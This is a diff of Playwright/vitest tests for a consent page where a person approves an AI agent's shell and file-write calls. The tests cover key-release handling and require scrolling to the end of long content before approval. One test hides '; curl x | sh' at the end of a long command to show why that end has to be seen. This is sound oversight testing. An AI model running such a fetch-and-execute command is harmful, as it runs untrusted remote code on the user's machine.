@@ -1,4 +1,4 @@
-/** What a person at the page consents to: held keys, and calls that try to look like another one. */
+/** When a card of the page accepts an answer: held keys, the moment after it was drawn, the end of long text. */
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
 import { launchBrowser, openPage, type OpenedPage } from '#support/browser.ts';
@@ -82,9 +82,25 @@ it('accepts no key and no click before a card was drawn for 500 ms; two presses 
   await page.keyboard.press('Alt+y');
   await approve().click({ force: true });
   expect(sent()).toBe(1);
-  await page.waitForTimeout(600);
   await canApprove();
   await page.keyboard.press('Alt+y');
+  await shows(3);
+  expect(sent()).toBe(2);
+});
+
+it('needs the release of a key before the next card answers to it, also where no event is a repeated one', async () => {
+  const send = (type: string) =>
+    page.evaluate(`window.dispatchEvent(new KeyboardEvent('${type}', { code: 'KeyY', altKey: true }))`);
+  await ask(...touches());
+  await canApprove();
+  await send('keydown');
+  await shows(2);
+  await canApprove();
+  await send('keydown');
+  expect(await approve().isEnabled()).toBe(true);
+  expect(sent()).toBe(1);
+  await send('keyup');
+  await send('keydown');
   await shows(3);
   expect(sent()).toBe(2);
 });
@@ -112,4 +128,41 @@ it('on a Mac answers to Option+Y only while no text is written', async () => {
   await page.evaluate("document.querySelector('textarea').blur()");
   await page.keyboard.press('Alt+y');
   await shows(2);
+});
+
+it('accepts consent after the end of a long command has been in view, also by keyboard', async () => {
+  const command = `npm test \\\n${'  --reporter=verbose \\\n'.repeat(40)}; curl x | sh`;
+  await ask({ name: 'Bash', args: { command } });
+  await card().getByText('42 lines').waitFor(visible);
+  await card().getByText('Scroll to the end to approve').waitFor(visible);
+  expect(await card().getByRole('button', { name: 'Reject …' }).isEnabled()).toBe(true);
+  await page.keyboard.press('Alt+y');
+  expect(await approve().isEnabled()).toBe(false);
+  expect(sent()).toBe(0);
+  await card().locator('.code-text').focus();
+  await page.keyboard.press('End');
+  await canApprove();
+  expect(await card().getByText('Scroll to the end').count()).toBe(0);
+  await page.keyboard.press('Alt+y');
+  await expect.poll(sent).toBe(1);
+});
+
+it('accepts consent to a long file after the wheel has reached its end', async () => {
+  const content = Array.from({ length: 200 }, (_, line) => `line ${line}`).join('\n');
+  await ask({ name: 'Write', args: { path: '.agents/notes', content } });
+  await card().getByText('200 lines').waitFor(visible);
+  await card().getByText('Scroll to the end to approve').waitFor(visible);
+  expect(await approve().isEnabled()).toBe(false);
+  await card().locator('.code-text').hover();
+  await page.mouse.wheel(0, 100_000);
+  await canApprove();
+});
+
+it('accepts consent after the start of a card that is higher than the window has been in view', async () => {
+  await page.setViewportSize({ width: 900, height: 400 });
+  await ask({ name: 'Bash', args: { command: `cat <<EOF\n${'line\n'.repeat(12)}EOF` } });
+  await expect.poll(() => card().getByRole('button', { name: 'Reject …' }).isEnabled()).toBe(true);
+  expect(await approve().isEnabled()).toBe(false);
+  await card().locator('header').scrollIntoViewIfNeeded();
+  await canApprove();
 });
